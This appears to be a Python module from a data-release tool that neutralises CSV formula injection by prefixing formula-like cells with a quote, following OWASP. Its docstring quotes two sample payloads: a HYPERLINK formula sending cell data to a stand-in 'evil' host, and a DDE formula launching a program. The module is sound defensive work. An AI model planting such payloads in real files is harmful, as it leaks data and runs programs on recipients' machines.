"""Formula injection ("CSV injection"): cells that a spreadsheet would run as formulas.

A CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be
evaluated by Excel, LibreOffice Calc or Google Sheets as a formula when the file is opened:
``=HYPERLINK("http://evil/?"&A1, "click")`` sends a cell's content away, ``=cmd|' /C calc'!A0``
(DDE) starts a program.  OWASP's advice, followed here: prefix such a cell with a single quote
(``'``), which the spreadsheet shows as text and never evaluates.  A plain number (``-2.5``,
``+3``, ``1e-5``, ``-2,5``) is not touched: spreadsheets read it as a number, which runs
nothing.  The full-width forms (``＝ ＋ － ＠``) count too: some spreadsheets fold them to the
ASCII ones.

The release writes CSV/TSV cells through :func:`neutralise_formulas` unless the curator asks to
keep the bytes (``--keep-formulas``; ``release: {keep_formulas: true}``).  XLSX output needs no
prefix: every cell is written as text, never as a formula (:func:`~.xlsx_format.write_xlsx`).
Column names (the project's attribute names) are written as they are.

Reference: OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re

import numpy as np

from ..errors import TableError
from .model import Table

#: the first characters that make a spreadsheet read a cell as a formula
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def is_formula(value: str) -> bool:
    """Whether a spreadsheet could run ``value`` as a formula: two characters or more, the
    first one of :data:`TRIGGERS`, and not a plain number (a lone ``-`` runs nothing)."""
    return len(value) > 1 and value[0] in TRIGGERS and _NUMBER.fullmatch(value) is None


def _prefixed(value: str) -> bool:
    """Whether ``value`` reads as a neutralised formula (``'`` and a formula)."""
    return value.startswith("'") and is_formula(value[1:])


def _map_categories(table: Table, change, test) -> tuple[Table, dict[str, int]]:
    """``table`` with every category for which ``test`` holds replaced by ``change(value)``
    (the replacements are new values: no two categories become one), and the number of
    cells changed per column."""
    encoded: dict[str, tuple[np.ndarray, np.ndarray]] = {}
    changed: dict[str, int] = {}
    for name in table.columns:
        codes, categories = table.codes(name), table.categories(name)
        flagged = np.fromiter((test(v) for v in categories), dtype=bool, count=len(categories))
        if flagged.any():
            changed[name] = int(np.bincount(codes, minlength=len(categories))[flagged].sum())
            categories = np.array([change(v) if f else v for v, f in zip(categories.tolist(), flagged.tolist())],
                                  dtype=object)
        encoded[name] = (codes, categories)
    if not changed:
        return table, {}
    return Table(encoded, table.n_rows, format=table.format, path=table.path, notes=table.notes), changed


def neutralise_formulas(table: Table, where: str = "the table") -> tuple[Table, dict[str, int]]:
    """``table`` with every cell that :func:`is_formula` prefixed with ``'``, and the number of
    cells changed per column (only the columns with any).

    Raises
    ------
    TableError
        When a cell already reads as a neutralised formula (``'=…``): the release could not be
        told apart from a prefixed cell, nor re-checked exactly.
    """
    for name in table.columns:
        for value in table.categories(name).tolist():
            if _prefixed(value):
                raise TableError(
                    f"Column {name!r} of {where} holds a value that begins with ' and then a formula sign "
                    f"(= + - @), the form this tool gives formula-like cells to keep spreadsheets from running "
                    f"them: the released file could not tell the two apart. Edit that value, or give "
                    f"--keep-formulas (release: {{keep_formulas: true}}) to write every cell as it is.")
    return _map_categories(table, lambda v: "'" + v, is_formula)


def restore_formulas(table: Table) -> Table:
    """The inverse of :func:`neutralise_formulas`: the ``'`` taken off every prefixed formula."""
    return _map_categories(table, lambda v: v[1:], _prefixed)[0]


def release_formulas(table: Table, *, keep: bool, where: str = "the table") -> tuple[Table, dict]:
    """The table to release and what ``result.json`` says of its formula-like cells:
    ``{"cells": {column: count}, "neutralised": bool}``.  CSV/TSV cells are neutralised
    unless ``keep``; XLSX and Parquet are written as they are (their cells are never formulas)."""
    applies = table.format.kind == "csv" and not keep
    if not applies:
        return table, {"cells": _map_categories(table, str, is_formula)[1], "neutralised": False, "kept": keep}
    neutralised, cells = neutralise_formulas(table, where)
    return neutralised, {"cells": cells, "neutralised": bool(cells), "kept": keep}


__all__ = ["TRIGGERS", "is_formula", "neutralise_formulas", "release_formulas", "restore_formulas"]
